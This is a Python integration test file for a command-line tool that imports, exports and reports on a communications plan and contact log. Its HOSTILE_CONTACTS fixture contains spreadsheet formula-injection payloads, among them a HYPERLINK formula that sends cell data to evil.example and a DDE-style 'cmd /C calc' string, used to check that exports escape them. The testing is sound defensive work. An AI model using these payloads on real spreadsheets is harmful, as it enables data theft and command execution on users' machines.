"""The foundation's command line end to end: migrate, seed, list, import, export, report."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from docx import Document
from openpyxl import load_workbook

from tests.integration.cli import Cli


def test_the_sample_plan_has_34_tactics_with_phases_and_windows(seeded: Cli) -> None:
    tactics = seeded.ok("tactics", "list", "--json").json()
    assert len(tactics) == 34
    phases = [t["phase"] for t in tactics]
    assert (phases.count("Q1"), phases.count("Q2"), phases.count("Q3"), phases.count("Q4")) == (
        11,
        7,
        12,
        4,
    )
    by_id = {t["id"]: t for t in tactics}
    assert by_id[1] | {} == by_id[1] and by_id[1]["timing"] == "January 7th"
    assert (by_id[1]["due_start"], by_id[1]["due_end"]) == ("2015-01-07", "2015-01-07")
    assert (by_id[14]["due_start"], by_id[14]["due_end"]) == ("2015-04-13", "2015-04-13")
    assert (by_id[20]["due_start"], by_id[20]["due_end"]) == ("2015-09-17", "2015-09-18")
    assert (by_id[24]["due_start"], by_id[24]["due_end"]) == ("2015-07-01", "2015-09-30")
    assert (by_id[8]["due_start"], by_id[8]["due_end"]) == ("2015-02-01", "2015-02-28")
    assert (by_id[29]["timing"], by_id[29]["due_start"], by_id[29]["due_end"]) == (
        "TBC",
        None,
        None,
    )
    assert by_id[2]["status"] == "complete"  # written "Compete" in the plan
    assert by_id[11]["status"] == "ongoing"
    assert by_id[14]["status"] == "planned"
    assert by_id[28]["owners"] == ["Jacqui Jones", "harmonisation team"]
    assert set(tactics[0]) >= {"id", "name", "phase", "timing", "due_start", "due_end", "owners"}


def test_seeding_twice_changes_nothing(seeded: Cli) -> None:
    before = seeded.ok("tactics", "list", "--json").out
    again = seeded.ok("seed")
    assert "tactics: 0 added, 0 updated, 34 unchanged" in again.out
    assert "people: 0 added" in again.out
    assert seeded.ok("tactics", "list", "--json").out == before


def test_filters_by_owner_status_and_date(seeded: Cli) -> None:
    pete = seeded.ok("tactics", "list", "--json", "--owner", "Pete Brodie").json()
    # Pete owns tactic 24 by name and the steering group's tactics as a member.
    assert {t["id"] for t in pete} == {9, 10, 14, 19, 20, 24, 25, 26}
    complete = seeded.ok("tactics", "list", "--json", "--status", "complete").json()
    assert all(t["status"] == "complete" for t in complete) and len(complete) == 13
    early = seeded.ok("tactics", "list", "--json", "--due-before", "2015-02-01").json()
    assert [t["id"] for t in early] == [1, 2, 3, 4, 5]


def test_seeding_another_year_moves_the_dates(cli: Cli) -> None:
    cli.ok("seed", "--plan-year", "2026")
    tactics = cli.ok("tactics", "list", "--json").json()
    assert tactics[0]["due_start"] == "2026-01-07"
    assert tactics[19]["due_end"] == "2026-09-18"


def _write_csv(path: Path, rows: list[dict[str, str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def test_a_file_with_one_bad_row_changes_nothing_and_names_the_row(
    seeded: Cli, tmp_path: Path
) -> None:
    exported = seeded.ok("export", "plan").out
    rows = list(csv.DictReader(io.StringIO(exported)))
    rows[0]["name"] = "Harmonisation blog, renamed"
    rows[5]["due_start"] = "2015-02-30"
    rows[6]["timing"] = "March"
    path = _write_csv(tmp_path / "plan.csv", rows)
    result = seeded("import", "plan", str(path))
    assert result.code == 1
    assert "Nothing was imported: 2 problems" in result.err
    assert "plan.csv, row 7, column 'due_start': '2015-02-30' is not a date" in result.err
    assert "plan.csv, row 8, column 'timing'" in result.err
    assert "disagree with the timing 'March'" in result.err
    assert seeded.ok("export", "plan").out == exported


def test_a_bad_timing_is_reported_at_its_row_and_column(seeded: Cli, tmp_path: Path) -> None:
    rows = [
        {"number": "40", "name": "New tactic", "timing": "Octember", "accountable": "Becki"},
        {"number": "41", "name": "", "timing": "May", "accountable": "Becki Aquilina"},
    ]
    result = seeded("import", "plan", str(_write_csv(tmp_path / "new.csv", rows)))
    assert result.code == 1
    assert "new.csv, row 2, column 'timing'" in result.err
    assert "new.csv, row 3, column 'name': must not be empty" in result.err
    assert len(seeded.ok("tactics", "list", "--json").json()) == 34


@pytest.mark.parametrize("kind", ["plan", "actions", "standards", "organisations"])
def test_export_import_export_gives_the_same_csv(seeded: Cli, tmp_path: Path, kind: str) -> None:
    first = tmp_path / f"{kind}.csv"
    seeded.ok("export", kind, "-o", str(first))
    imported = seeded.ok("import", kind, str(first))
    assert "0 added, 0 updated" in imported.out
    second = tmp_path / f"{kind}-again.csv"
    seeded.ok("export", kind, "-o", str(second))
    assert first.read_bytes() == second.read_bytes()


def test_an_edited_plan_updates_the_tactic_and_its_history(seeded: Cli, tmp_path: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(seeded.ok("export", "plan").out)))
    rows[13]["status"] = "Complete"
    result = seeded.ok("import", "plan", str(_write_csv(tmp_path / "plan.csv", rows)))
    assert "tactics: 0 added, 1 updated, 33 unchanged" in result.out
    by_id = {t["id"]: t for t in seeded.ok("tactics", "list", "--json").json()}
    assert by_id[14]["status"] == "complete"


def test_xlsx_round_trip(seeded: Cli, tmp_path: Path) -> None:
    first = tmp_path / "plan.xlsx"
    seeded.ok("export", "plan", "-o", str(first))
    sheet = load_workbook(first).active
    assert sheet is not None and sheet["D2"].value == "Harmonisation blog"
    assert "0 added, 0 updated, 34 unchanged" in seeded.ok("import", "plan", str(first)).out
    second = tmp_path / "again.xlsx"
    seeded.ok("export", "plan", "-o", str(second))
    assert first.read_bytes() == second.read_bytes()


def test_a_plan_from_a_word_table(cli: Cli, tmp_path: Path) -> None:
    document = Document()
    table = document.add_table(rows=0, cols=5)
    for cells in [
        ("Tactic", "Purpose", "Audience", "Timing", "Accountable"),
        ("Phase 1 (Q1 – Jan/Feb/Mar):", "", "", "", ""),
        (
            "Harmonisation blog\n(Objective 1,2 & 3)",
            "Awareness",
            "GSS",
            "January 7th",
            "Jacqui Jones\nComplete",
        ),
        ("Phase 3 (Q3 – July/Aug/Sept):", "", "", "", ""),
        (
            "Liaising with Users\n(Objective 1 & 2)",
            "Follow up meeting with SUF",
            "GSS",
            "TBC",
            "The Harmonisation Team",
        ),
    ]:
        row = table.add_row().cells
        for cell, value in zip(row, cells, strict=True):
            cell.text = value
    path = tmp_path / "plan.docx"
    document.save(str(path))
    result = cli.ok("import", "plan", str(path), "--plan-year", "2016")
    assert "2 added" in result.out
    tactics = cli.ok("tactics", "list", "--json").json()
    assert [(t["name"], t["phase"], t["status"], t["due_start"]) for t in tactics] == [
        ("Harmonisation blog", "Q1", "complete", "2016-01-07"),
        ("Liaising with Users", "Q3", "planned", None),
    ]
    assert tactics[0]["objectives"] == [1, 2, 3]


def test_contacts_import_validates_types_and_feeds_the_baseline(
    seeded: Cli, tmp_path: Path
) -> None:
    header = "date,name,email,organisation,org_type,user_group,channel,direction,standard,summary"
    good = [
        (
            "2015-01-12,Jane Smith,jane@leeds.gov.uk,Leeds City Council,Local Government,"
            "Sub national organisations,inbox,inbound,Ethnicity harmonised standard,ethnic group"
        ),
        (
            "2015-02-02,Ann Lee,ann@nhs.net,NHS Leeds,NHS,Other government departments,phone,"
            "inbound,,disability"
        ),
        (
            "2015-06-15,Tom Bell,tom@leeds.gov.uk,Leeds City Council,Local Government,"
            "Sub national organisations,event,outbound,,"
        ),
        "2015-07-01,Rob Roe,rob@bbc.co.uk,BBC,Media,Journalists/media,inbox,inbound,,press",
        "2015-07-02,Rob Roe,rob@bbc.co.uk,BBC,Media,Journalists/media,inbox,inbound,,press 2",
    ]
    bad = tmp_path / "bad.csv"
    bad.write_text(
        "\n".join([header, good[0], "2015-13-01,X,x@y.org,Y,Quango,Citizen,fax,inbound,,"]) + "\n"
    )
    result = seeded("import", "contacts", str(bad))
    assert result.code == 1
    assert "bad.csv, row 3, column 'date'" in result.err
    assert "bad.csv, row 3, column 'org_type'" in result.err
    assert "bad.csv, row 3, column 'channel'" in result.err
    assert seeded.ok("export", "contacts").out.lstrip("\ufeff").strip() == header + ",ref"

    path = tmp_path / "contacts.csv"
    path.write_text("\n".join([header, *good]) + "\n")
    assert "5 added" in seeded.ok("import", "contacts", str(path)).out
    assert "0 added, 0 updated, 5 unchanged" in seeded.ok("import", "contacts", str(path)).out

    report = seeded.ok("report", "baseline", "--json").json()
    assert (report["by"], report["from"], report["to"]) == ("org_type", "2015-01-01", "2015-12-31")
    rows = {r["group"]: r for r in report["rows"]}
    # Baseline: Q1 (90 days) scaled to the year (365 days).
    assert rows["Local Government"] == {
        "group": "Local Government",
        "count": 2,
        "baseline": round(1 * 365 / 90, 1),
        "change": round(2 - round(365 / 90, 1), 1),
        "change_pct": round((2 - 4.1) / 4.1 * 100, 1),
    }
    assert rows["Media"]["count"] == 2 and rows["Media"]["baseline"] == 0
    assert rows["Charity"]["count"] == 0
    months = seeded.ok("report", "baseline", "--json", "--by", "month").json()
    assert [(r["group"], r["count"], r["baseline"]) for r in months["rows"]] == [
        ("2015-01", 1, round(2 / 3, 1)),
        ("2015-02", 1, round(2 / 3, 1)),
        ("2015-06", 1, round(2 / 3, 1)),
        ("2015-07", 2, round(2 / 3, 1)),
    ]
    groups = seeded.ok(
        "report", "baseline", "--json", "--by", "user_group", "--from", "2015-07-01"
    ).json()
    assert {r["group"]: r["count"] for r in groups["rows"]}["Journalists/media"] == 2
    # The directory learned the organisations the file named.
    organisations = seeded.ok("export", "organisations").out
    assert "Leeds City Council,Local Government,Sub national organisations" in organisations


HOSTILE_CONTACTS = [
    {
        "date": "2015-03-02",
        "name": '=HYPERLINK("http://evil.example/?d="&A1,"Jane Smith")',
        "email": "jane@leeds.gov.uk",
        "organisation": "Leeds City Council",
        "channel": "inbox",
        "summary": "@SUM(1+1)*cmd|' /C calc'!A0 ethnicity question",
    },
    {
        "date": "2015-03-03",
        "name": "+44 20 7946 0000",
        "email": "",
        "organisation": "-Ethnicity Ltd",
        "channel": "chat",
        "summary": "\t=1+1 what about in Scotland?",
    },
    {
        "date": "2015-03-04",
        "name": "'Tis Ann",
        "email": "ann@nhs.net",
        "organisation": "NHS Leeds",
        "channel": "phone",
        "summary": "Costs £1,200 – asked about the disability standard",
    },
]


def test_hostile_names_and_subjects_export_as_text_and_import_back_unchanged(
    seeded: Cli, tmp_path: Path
) -> None:
    source = _write_csv(tmp_path / "hostile.csv", HOSTILE_CONTACTS)
    assert "3 added" in seeded.ok("import", "contacts", str(source)).out

    exported = tmp_path / "contacts.csv"
    seeded.ok("export", "contacts", "-o", str(exported))
    raw = exported.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and "£1,200 –".encode() in raw
    cells = [c for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for c in row]
    assert '\'=HYPERLINK("http://evil.example/?d="&A1,"Jane Smith")' in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0 ethnicity question" in cells
    assert "'+44 20 7946 0000" in cells and "'-Ethnicity Ltd" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]

    workbook = tmp_path / "contacts.xlsx"
    seeded.ok("export", "contacts", "-o", str(workbook))
    sheet = load_workbook(workbook).active
    assert sheet is not None
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    assert sheet["B2"].value == HOSTILE_CONTACTS[0]["name"]

    for path in (exported, workbook):
        assert "0 added" in seeded.ok("import", "contacts", str(path)).out
    again = tmp_path / "again.csv"
    seeded.ok("export", "contacts", "-o", str(again))
    assert again.read_bytes() == raw


def test_report_csvs_escape_hostile_organisation_names(seeded: Cli, tmp_path: Path) -> None:
    source = _write_csv(tmp_path / "hostile.csv", HOSTILE_CONTACTS)
    seeded.ok("import", "contacts", str(source))
    printed = seeded.ok("report", "baseline", "--csv", "--by", "organisation").out
    rows = list(csv.reader(io.StringIO(printed)))
    assert rows[0] == ["group", "count", "baseline", "change"]
    # A negative number stays a number; a name that starts like one does not.
    assert ["'-Ethnicity Ltd", "1", "4.1", "-3.1"] in rows
    written = tmp_path / "by-organisation.csv"
    seeded.ok("report", "baseline", "--by", "organisation", "-o", str(written))
    content = written.read_bytes()
    assert content.startswith(b"\xef\xbb\xbf") and b"\n'-Ethnicity Ltd,1," in content
